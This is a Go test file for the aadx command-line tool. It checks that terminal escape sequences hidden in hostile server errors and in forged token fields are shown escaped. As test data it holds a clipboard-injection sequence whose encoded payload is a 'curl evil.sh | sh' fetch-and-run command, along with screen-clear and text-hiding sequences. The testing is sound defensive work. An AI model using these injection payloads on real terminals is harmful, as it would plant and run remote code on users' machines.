package cli

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// Terminal attacks a hostile peer can hide in text aadx prints: set the clipboard (OSC 52), retitle the window
// (OSC 0, ended by BEL), clear the screen (CSI 2J), and conceal what follows (SGR 8).
const (
	osc52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
	title = "\x1b]0;pwned\x07"
	clear = "\x1b[2J"
	hide  = "\x1b[8m"
)

const attack = osc52 + title + clear + hide + "\u009b31m"

func assertNoRawControls(t *testing.T, what, out string) {
	t.Helper()
	for _, c := range []string{"\x1b]", "\x07", "\x1b[2J", "\x1b[8m", "\u009b"} {
		if strings.Contains(out, c) {
			t.Errorf("%s prints %q raw:\n%s", what, c, out)
		}
	}
}

func TestHostileTextNeverReachesTheTerminalRaw(t *testing.T) {
	isolateProfiles(t)
	srv := newHostileServer(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusUnauthorized)
		b, _ := json.Marshal(map[string]any{"error": "invalid_client" + attack,
			"error_description": "AADSTS7000215: Invalid client secret provided." + attack, "error_codes": []int{7000215}})
		_, _ = w.Write(b)
	})
	base := []string{"run", "client-credentials", "--client-id=00000000-0000-0000-0000-0000000000aa", "--tenant", "contoso.onmicrosoft.com",
		"--scope", "api://x/.default", "--authority", srv.URL}
	for attempt := 1; attempt <= 2; attempt++ {
		t.Setenv("AZURE_CLIENT_SECRET", "a-client-secret-value")
		code, out, errOut := cli(t, "", base...)
		if code != 1 || !strings.Contains(errOut, `\u001b]52;c;`) {
			t.Errorf("run: exit %d; want 1 and the OSC 52 shown escaped:\n%s", code, errOut)
		}
		assertNoRawControls(t, "aadx run", out+errOut)
		code, out, errOut = cli(t, "", append(base, "--json")...)
		var v map[string]any
		if err := json.Unmarshal([]byte(out), &v); err != nil || code != 1 {
			t.Errorf("run --json: exit %d, output is not JSON (%v):\n%s", code, err, out)
		} else if !strings.Contains(fmt.Sprint(v), "\x1b]52;c;") {
			t.Errorf("run --json lost the server's text: %v", v)
		}
		assertNoRawControls(t, "aadx run --json", out+errOut)
	}

	body, _ := json.Marshal(map[string]any{"error": "invalid_grant", "error_description": "AADSTS50126: Error validating credentials." + attack, "error_codes": []int{50126}})
	code, out, errOut := cli(t, string(body), "explain", "-")
	assertNoRawControls(t, "aadx explain -", out+errOut)
	if code != 0 || !strings.Contains(out, `\u001b`) {
		t.Errorf("explain -: exit %d, %s%s", code, out, errOut)
	}

	seg := func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }
	claims, _ := json.Marshal(map[string]any{"aud": "api", "name": "Mallory" + attack, "iss": "https://login.microsoftonline.com/x/v2.0"})
	header, _ := json.Marshal(map[string]any{"alg": "RS256", "kid": "k" + attack})
	token := seg(string(header)) + "." + seg(string(claims)) + "." + seg("sig")
	code, out, errOut = cli(t, "", "decode", token)
	assertNoRawControls(t, "aadx decode", out+errOut)
	if code != 0 || !strings.Contains(out, "Mallory") {
		t.Errorf("decode: exit %d, %s%s", code, out, errOut)
	}
}
